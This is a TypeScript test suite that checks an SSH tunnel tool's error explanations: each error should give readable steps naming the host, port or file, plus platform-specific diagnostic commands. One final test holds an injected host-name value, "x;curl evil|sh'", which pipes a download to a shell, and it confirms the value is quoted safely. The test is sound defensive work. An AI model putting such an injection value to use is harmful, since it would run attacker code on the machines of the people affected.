// The explanation of every error: steps that name the host, port or file concerned.
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { connectionCodes, failure, finalCodes, retryableCodes } from '../../../src/tunnels/errors/errors';
import type { ErrorFacts, TunnelError, TunnelErrorCode } from '../../../src/tunnels/errors/errors';
import { explain } from '../../../src/tunnels/errors/explain';
import type { Circumstances } from '../../../src/tunnels/errors/explanation';
import * as algorithms from '../../../src/tunnels/errors/algorithms';
import * as forwarding from '../../../src/tunnels/errors/localListenAndTarget';
import * as hostKeys from '../../../src/tunnels/errors/hostKey';
import * as login from '../../../src/tunnels/errors/auth';
import * as permission from '../../../src/tunnels/errors/consent';
import * as reaching from '../../../src/tunnels/errors/connect';
import * as remoteListening from '../../../src/tunnels/errors/remoteListen';
import * as targetsHere from '../../../src/tunnels/errors/targetsHere';

const codes: readonly TunnelErrorCode[] = [...retryableCodes, ...finalCodes, ...connectionCodes];
const platforms = ['linux', 'darwin', 'win32'];
const destination = { host: 'staging', user: 'me', port: 2222 };
const on = (platform: string, extra: Partial<Circumstances> = {}): Circumstances => ({
  platform,
  destination,
  ...extra,
});

function textOf(error: TunnelError, circumstances: Circumstances): string {
  const { steps } = explain(error, circumstances);
  return steps.flatMap(({ text, code }) => [text, code ?? '']).join('\n');
}

describe('the explanation of an error', () => {
  for (const code of codes) {
    it(`has steps for ${code} on every platform, with a known destination and without`, () => {
      for (const platform of platforms) {
        for (const circumstances of [on(platform), { platform, destination: undefined }]) {
          const { steps, actions } = explain(failure(code, 'It failed.', 'Fix it.'), circumstances);
          assert.ok(steps.length > 0 && actions.length > 0);
          for (const { text, code: command } of steps) {
            assert.match(text, /^[A-Z"].*[.:]$/s, text);
            assert.doesNotMatch(`${text}\n${command ?? ''}`, /\bE[A-Z]{5,}\b|undefined|\[object/);
          }
        }
      }
    });
  }
});

const address = { host: 'db.example.org', port: 2022 };
const key = { type: 'ssh-ed25519', fingerprint: 'SHA256:abc' };

describe('the explanation of an error', () => {
  const cases: readonly (readonly [error: TunnelError, ...named: readonly string[]])[] = [
    [reaching.hostNotFound('stagign'), 'stagign'],
    [reaching.connectionRefused(address), 'db.example.org', '2022'],
    [reaching.connectTimeout(address, 10), 'nc -vz -w 5 db.example.org 2022'],
    [reaching.hostUnreachable(address), 'db.example.org'],
    [reaching.connectionLost('bastion'), 'bastion'],
    [reaching.keepAliveTimeout('bastion', 45), 'bastion', 'serverAliveInterval'],
    [reaching.serverBusy('bastion'), 'bastion', 'MaxStartups'],
    [reaching.addressPenalised('bastion'), 'bastion', 'PerSourcePenaltyExemptList'],
    [reaching.notAnSshServer(address), 'db.example.org', '2022'],
    [
      reaching.protocolBroken('bastion', 'sent more than it may'),
      'bastion',
      'ssh -v',
      'violates the SSH protocol',
    ],
    [
      reaching.proxyFailed('db:22', 'bastion:22', forwarding.targetNotPermitted('db:22', 'bastion')),
      'db:22',
      'ssh -v -p 2222 me@staging',
      'AllowTcpForwarding yes',
    ],
    [algorithms.noCommonAlgorithm('old'), 'old', 'HostKeyAlgorithms +ssh-rsa'],
    [
      login.authenticationFailed('me@staging', ['publickey a'], []),
      'me@staging',
      'ssh-copy-id -p 2222 me@staging',
    ],
    [login.passwordExpired('me@staging'), 'me@staging', 'ssh -p 2222 me@staging'],
    [login.tooManyAuthenticationFailures('me@staging', []), 'me@staging', 'IdentitiesOnly yes'],
    [login.authenticationCancelled('me@staging', 'a password'), 'me@staging'],
    [login.keyUnreadable('/k', 'it is damaged', 'Fix it.'), 'ssh-keygen -y -f /k'],
    [login.keyUnsupported('/k', 'it is odd', 'Fix it.'), 'ssh-keygen -p -f /k'],
    [login.agentUnavailable('/agent.sock'), '/agent.sock'],
    [hostKeys.hostKeyUnknown('[db]:2022', key), '[db]:2022', 'ssh-keygen -lf'],
    [
      hostKeys.hostKeyChanged('[db]:2022', key, { ...key, file: '/kh', line: 3 }),
      '/kh, line 3',
      "ssh-keygen -R '[db]:2022' -f /kh",
    ],
    [hostKeys.hostKeyRevoked('db', key, '/kh', 3), '/kh, line 3', 'db'],
    [
      forwarding.addressUsedByTunnel(
        { host: '127.0.0.1', port: 5432 },
        { tunnel: 'staging', window: 'shop' },
      ),
      '"staging" of the window "shop"',
      'port 5432',
    ],
    [
      forwarding.addressUsedByTunnel({ path: '/run/db.sock' }, { tunnel: 'staging' }),
      '"staging"',
      '/run/db.sock',
    ],
    [forwarding.addressInUse({ host: '127.0.0.1', port: 5432 }), "ss -ltnp 'sport = :5432'"],
    [
      forwarding.addressInUse({ host: '127.0.0.1', port: 5432 }, 'another user'),
      "sudo ss -ltnp 'sport = :5432'",
    ],
    [forwarding.addressNotAvailable({ host: '10.9.9.9', port: 1 }), '10.9.9.9:1'],
    [forwarding.portPermissionDenied({ host: '127.0.0.1', port: 80 }), '80'],
    [forwarding.forwardingDisabled('bastion'), 'bastion', 'AllowTcpForwarding yes'],
    [forwarding.targetNotPermitted('db:5432', 'bastion'), 'bastion', 'PermitOpen db:5432'],
    [forwarding.targetNotPermitted('[::1]:80', 'bastion'), 'PermitOpen [::1]:80'],
    [forwarding.targetRefused('db:5432', 'bastion'), 'db:5432', 'bastion', "ss -ltnp 'sport = :5432'"],
    [forwarding.targetNotFound('db:5432', 'bastion'), 'getent hosts db', 'bastion'],
    [forwarding.targetUnreachable('db:5432', 'bastion'), 'nc -vz -w 5 db 5432', 'bastion'],
    [forwarding.socketPathTaken('/tmp/s', 'file'), 'rm /tmp/s'],
    [forwarding.socketFolderMissing('/no/s'), 'ls -ld /no'],
    [forwarding.targetSocketUnusable('/run/d.sock', 'bastion'), 'ls -l /run/d.sock', 'bastion'],
    [permission.consentNeeded('staging', false), 'Review'],
    [permission.workspaceUntrusted('staging'), 'Trust'],
  ];
  for (const [error, ...named] of cases) {
    it(`names ${named.join(', ')} for ${error.code}`, () => {
      const text = textOf(error, on('linux'));
      for (const name of named) {
        assert.ok(text.includes(name), `${name} in\n${text}`);
      }
    });
  }

  it('names the command of the platform on which it is shown', () => {
    const error = forwarding.addressInUse({ host: '127.0.0.1', port: 5432 });
    assert.match(textOf(error, on('darwin')), /lsof -nP -iTCP:5432/);
    assert.match(textOf(error, on('win32')), /netstat -ano \| findstr :5432/);
  });
  it('names the lines of sshd_config for a refused port or socket of the server', () => {
    const facts: ErrorFacts = { host: 'bastion' };
    const error = failure('RemoteListenRefused', 'It did not.', 'Fix it.', undefined, facts);
    const remote = {
      kind: 'remote',
      target: { host: 'localhost', port: 3000 },
      label: 'R',
      ifPortBusy: 'fail',
    } as const;
    const port = textOf(
      error,
      on('linux', { forward: { ...remote, listen: { bind: undefined, port: 9000 } } }),
    );
    assert.match(port, /PermitListen 9000\nGatewayPorts clientspecified/);
    assert.match(port, /ss -ltnp 'sport = :9000'/);
    const socket = textOf(error, on('linux', { forward: { ...remote, listen: { path: '/tmp/a b' } } }));
    assert.match(socket, /AllowStreamLocalForwarding yes/);
    assert.match(socket, /ls -l '\/tmp\/a b'/);
  });
});

describe('the explanation of a failed remote forward', () => {
  it('has steps on this machine for a failed target, which this machine dials', () => {
    const forward = {
      kind: 'remote',
      listen: { bind: undefined, port: 9000 },
      target: { host: 'localhost', port: 3000 },
      label: 'R',
      ifPortBusy: 'fail',
    } as const;
    for (const error of [
      targetsHere.targetHereRefused('localhost:3000'),
      targetsHere.targetHereNotFound('web:3000'),
      targetsHere.targetHereUnreachable('10.0.0.1:3000'),
      targetsHere.targetHereSocketUnusable('/tmp/s'),
    ]) {
      const { steps } = explain(error, on('darwin', { forward }));
      assert.ok(
        steps.every(({ side }) => side === 'here'),
        error.code,
      );
    }
    const refused = textOf(targetsHere.targetHereRefused('localhost:3000'), on('darwin', { forward }));
    assert.match(refused, /^lsof -nP -iTCP:3000/m);
  });
  it('names PermitListen for a listener that the server does not permit', () => {
    const listen = { bind: undefined, port: 9000 };
    const error = remoteListening.remoteListenNotPermitted(listen, 'bastion');
    const forward = { kind: 'remote', listen, target: undefined, label: 'R', ifPortBusy: 'fail' } as const;
    assert.match(textOf(error, on('linux', { forward })), /PermitListen 9000/);
  });
});

describe('a command in an explanation', () => {
  it('quotes the text of others as one word', () => {
    const nasty = reaching.hostNotFound("x;curl evil|sh'");
    assert.match(textOf(nasty, on('linux')), /^getent hosts 'x;curl evil\|sh'\\'''$/m);
    assert.match(textOf(nasty, on('win32')), /^nslookup "x;curl evil\|sh'"$/m);
  });
});
